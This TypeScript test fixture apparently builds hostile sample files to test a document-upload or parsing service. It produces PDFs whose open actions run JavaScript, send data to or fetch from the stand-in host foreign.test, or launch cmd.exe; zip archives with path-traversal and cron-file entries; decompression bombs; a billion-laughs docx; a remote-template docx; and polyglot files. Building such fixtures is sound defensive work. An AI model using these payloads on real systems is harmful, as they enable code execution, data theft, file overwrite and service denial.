import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { HTML, JS, type Sent, SVG } from './hostile-payload.ts';
import { aPdf } from './pdf.ts';

/** So much packs into next to nothing. */
const NOTHING = Buffer.alloc(32 << 20);
const PACKED = deflateSync(NOTHING, { level: 1 });
const ACT = `app.alert(1);this.submitForm('http://foreign.test/form');app.launchURL('http://foreign.test/launch');this.getURL('http://foreign.test/get')`;
const TO = '(http://foreign.test/pdf)';
const opens = (action: string) => aPdf('Homework', { catalogue: `/OpenAction<<${action}>>` });
const BROKEN_PDF = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://foreign.test/pdf'\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/URI/URI(http://foreign.test/uri)>>>>>>endobj
trailer<</Root 1 0 R>>`;

/** PDFs that act, archives that are pages too, and documents that unpack without end. */
export const hostileDocuments: readonly Sent[] = [
  ['homework.pdf', HTML],
  ['pdf-and-page.pdf', `%PDF-1.4\n${HTML}`],
  ['late-head.pdf', `<!-- ${'x'.repeat(900)} -->%PDF-1.4\n${HTML}`],
  ['broken.pdf', BROKEN_PDF],
  ['script.pdf', opens(`/S/JavaScript/JS<${Buffer.from(ACT).toString('hex')}>`)],
  [
    'names.pdf',
    aPdf('Homework', {
      catalogue: `/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS<${Buffer.from(ACT).toString('hex')}>>>]>>>>`,
    }),
  ],
  ['address.pdf', opens(`/S/URI/URI${TO}`)],
  ['javascript.pdf', opens(`/S/URI/URI(javascript:pwned\\('run'\\))`)],
  ['form.pdf', opens(`/S/SubmitForm/F<</FS/URL/F${TO}>>/Fields[]/Flags 4`)],
  ['launch.pdf', opens('/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>')],
  ['elsewhere.pdf', opens(`/S/GoToR/F<</FS/URL/F${TO}>>/D[0/Fit]`)],
  ['opened-page.pdf', aPdf('Homework', { page: `/AA<</O<</S/URI/URI${TO}>>>>` })],
  [
    'stream.pdf',
    aPdf('Homework', {
      more: [
        Buffer.concat([
          Buffer.from(`<</Length ${PACKED.length}/Filter/FlateDecode>>stream\n`),
          PACKED,
          Buffer.from('\nendstream'),
        ]),
      ],
    }),
  ],
  ['pdf-and-archive.pdf', Buffer.concat([aPdf('Homework'), zip([['a.html', HTML]])])],
  [
    'archive.zip',
    zip([
      ['../../../../tmp/pwned.html', HTML],
      ['/etc/cron.d/pwned', JS],
    ]),
  ],
  ['page-and-archive.zip', Buffer.concat([Buffer.from(HTML), zip([['a.txt', 'a']])])],
  ['picture-and-archive.gif', Buffer.concat([Buffer.from('GIF89a\x01\0\x01\0\0\0\0;'), zip([['a.class', JS]])])],
  ['stored.jar', zip([['a.html', HTML]])],
  [
    'bomb.zip',
    zip([
      ['a', NOTHING],
      ['b', NOTHING],
    ]),
  ],
  ['nested.zip', zip(Array.from({ length: 16 }, (_, i) => [`${i}.zip`, zip([['a', NOTHING.subarray(0, 8 << 20)]])]))],
  ['bomb.docx', office('word/document.xml', NOTHING)],
  [
    'laughs.docx',
    office(
      'word/document.xml',
      `<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(9_999)}">]><d>${'&b;'.repeat(9_999)}</d>`,
    ),
  ],
  [
    'outside.docx',
    office(
      'word/_rels/document.xml.rels',
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://foreign.test/t.dotm" TargetMode="External"/></Relationships>',
    ),
  ],
  ['types.xlsx', zip([['[Content_Types].xml', NOTHING]])],
  ['bomb.svgz', gzipSync(Buffer.concat([Buffer.from(SVG), NOTHING]), { level: 1 })],
  ['essay.rtf', `{\\rtf1{\\field{\\*\\fldinst HYPERLINK "http://foreign.test"}}{\\object\\objupdate ${HTML}}}`],
];

/** Entries of a zip archive, packed where that makes them smaller. */
function zip(entries: readonly [string, string | Buffer][]): Buffer {
  const parts: Buffer[] = [];
  const index: Buffer[] = [];
  let at = 0;
  for (const [name, content] of entries) {
    const plain = Buffer.from(content);
    const packed = deflateRawSync(plain, { level: 1 });
    const isPacked = packed.length < plain.length;
    const data = isPacked ? packed : plain;
    const about = Buffer.alloc(26);
    about.writeUInt16LE(20, 0);
    about.writeUInt16LE(isPacked ? 8 : 0, 4);
    about.writeUInt32LE(crc32(plain), 10);
    about.writeUInt32LE(data.length, 14);
    about.writeUInt32LE(plain.length, 18);
    about.writeUInt16LE(Buffer.byteLength(name), 22);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(at, 10);
    const part = Buffer.concat([Buffer.from('PK\x03\x04'), about, Buffer.from(name), data]);
    parts.push(part);
    index.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), about, place, Buffer.from(name)]));
    at += part.length;
  }
  const end = Buffer.alloc(18);
  end.writeUInt16LE(entries.length, 4);
  end.writeUInt16LE(entries.length, 6);
  end.writeUInt32LE(Buffer.concat(index).length, 8);
  end.writeUInt32LE(at, 12);
  return Buffer.concat([...parts, ...index, Buffer.from('PK\x05\x06'), end]);
}

function office(path: string, content: string | Buffer): Buffer {
  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const types = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`;
  return zip([
    ['[Content_Types].xml', types],
    [path, content],
  ]);
}
